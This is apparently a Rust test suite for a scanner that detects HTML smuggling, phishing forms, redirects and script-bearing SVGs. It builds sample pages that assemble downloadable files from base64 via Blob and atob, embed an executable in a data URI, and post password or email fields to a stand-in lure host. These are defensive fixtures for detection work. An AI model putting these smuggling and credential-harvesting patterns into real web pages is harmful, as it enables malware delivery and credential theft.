use base64::Engine;
use base64::prelude::BASE64_STANDARD as STANDARD;

use super::super::MarkKind::{self, Executable, HtmlForm, HtmlSmuggling, Script};
use super::{check, evidence};

/// Something that only a program reads.
fn base64(length: usize) -> String {
    const LETTERS: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    testkit::noise(11, length).iter().map(|byte| char::from(LETTERS[usize::from(byte & 63)])).collect()
}

#[test]
fn pages_that_build_a_file_are_found() {
    let packed = base64(2_000);
    let numbers = (0..600).map(|n| (n % 256).to_string()).collect::<Vec<_>>().join(",");
    let lines = packed
        .as_bytes()
        .chunks(76)
        .map(|line| String::from_utf8_lossy(line).into_owned())
        .collect::<Vec<_>>();
    let pages: [String; 8] = [
        format!(
            "<script>var b=new Blob([atob('{packed}')]);a.href=URL.createObjectURL(b);a.click()</script>"
        ),
        format!("<script>navigator.msSaveOrOpenBlob(new Blob([u8('{packed}')]),'a.zip')</script>"),
        format!("<script>var d=[{numbers}];var b = new Blob([new Uint8Array(d)]);</script>"),
        format!("<script>var d='{}'; var b=new   Blob([atob(d)])</script>", lines.join("'+\n'")),
        format!("<a id=x download=\"invoice.zip\" href=\"data:application/zip;base64,{packed}\">open</a>"),
        format!("<body onload=\"document.write(atob('{}'))\">", base64(300)),
        format!(
            "<script>document['wri'+'te'](1);document.write(unescape('{}'))</script>",
            "%3C%61".repeat(60)
        ),
        "<iframe src=\"data:text/html;base64,PGh0bWw+\"></iframe>".to_owned(),
    ];
    for page in pages {
        let page = format!("<html>{page}</html>");
        let look = check("a.html", page.as_bytes(), &[HtmlSmuggling]);
        assert!(!evidence(&look, HtmlSmuggling).is_empty());
        // As Windows writes it.
        let wide: Vec<u8> =
            [0xfeff].into_iter().chain(page.encode_utf16()).flat_map(u16::to_le_bytes).collect();
        check("a.htm", &wide, &[HtmlSmuggling]);
    }
}

#[test]
fn files_that_stand_in_a_page_are_looked_at() {
    let program = STANDARD.encode(super::made::pe());
    for page in [
        format!("<a href=\"data:application/octet-stream;base64,{program}\">open</a>"),
        format!("<script>var unused = '{program}'</script>"),
        format!("<script>b=new Blob([atob(\"{program}\")])</script>"),
    ] {
        let look = check("a.html", format!("<html>{page}</html>").as_bytes(), &[HtmlSmuggling, Executable]);
        assert!(look.marks.iter().any(|mark| mark.place == "a.html/hidden-1"), "{:?}", look.marks);
    }
}

#[test]
fn pages_that_ask_or_jump_are_found() {
    let rows: [(&str, &str); 10] = [
        ("<form action='https://lure.example/p'><input type=password></form>", "https://lure.example/p"),
        ("<input name=x type=\"PASSWORD\">", "asks for a password"),
        ("<form action='https://lure.example/p'><input type=email></form>", "a form that goes to"),
        ("<input type=email><script>fetch(u,{method:'POST'})</script>", "a script sends"),
        (
            "<meta http-equiv=\"Refresh\" content=\"0; URL='https://lure.example/'\">",
            "jumps to https://lure.example/",
        ),
        ("<script>window.location.href = \"https://lure.example/?u=\" + x</script>", "https://lure.example/"),
        ("<body onload=\"location.replace('https://lure.example/')\">", "https://lure.example/"),
        ("<script>location = atob('aHR0cHM6Ly9sdXJlLmV4YW1wbGUv')</script>", "hides"),
        ("<iframe src=\"https://lure.example/\"></iframe>", "shows a page"),
        ("<meta http-equiv=refresh content='0;url=search-ms:query=x'>", "search-ms:"),
    ];
    for (page, shown) in rows {
        let look = check("a.html", format!("<html>{page}</html>").as_bytes(), &[HtmlForm]);
        assert!(evidence(&look, HtmlForm).contains(shown), "{page}: {:?}", look.marks);
    }
}

#[test]
fn ordinary_pages_and_pictures_are_clean() {
    let photo = base64(20_000);
    let rows: [String; 9] = [
        "<!DOCTYPE html><p>拝啓 <a href='https://a.example/'>a</a></p>".to_owned(),
        format!("<img src=\"data:image/png;base64,{photo}\">"),
        format!("<style>@font-face{{src:url(data:font/woff2;base64,{photo})}}</style><p>text</p>"),
        "<script>document.getElementById('menu').innerHTML = 'open'</script>".to_owned(),
        "<form action='/search'><input name=q></form>".to_owned(),
        "<meta http-equiv=refresh content='300'>".to_owned(),
        "<meta http-equiv='Content-Type' content='text/html; charset=iso-2022-jp'>".to_owned(),
        "<script>var x = decodeURIComponent('%20'); el.innerHTML = x</script>".to_owned(),
        "<p>pneumonoultramicroscopicsilicovolcanoconiosis</p>".repeat(40),
    ];
    for page in rows {
        check("a.html", format!("<html>{page}</html>").as_bytes(), &[]);
    }
    check("a.svg", b"<?xml version='1.0'?><!-- made --><svg xmlns='x'><path d='M0 0'/></svg>", &[]);
}

#[test]
fn pictures_that_run_are_found() {
    let packed = base64(2_000);
    let rows: [(String, &[MarkKind]); 4] = [
        ("<svg><script>x()</script></svg>".to_owned(), &[Script]),
        ("<svg onload=\"x()\"/>".to_owned(), &[Script]),
        (
            "<svg><script><![CDATA[window.location.href='https://lure.example/']]></script></svg>".to_owned(),
            &[Script, HtmlForm],
        ),
        (
            format!(
                "<svg><script>var b=new Blob([atob('{packed}')]);u=URL.createObjectURL(b)</script></svg>"
            ),
            &[Script, HtmlSmuggling],
        ),
    ];
    for (picture, expected) in rows {
        check("a.svg", picture.as_bytes(), expected);
    }
}
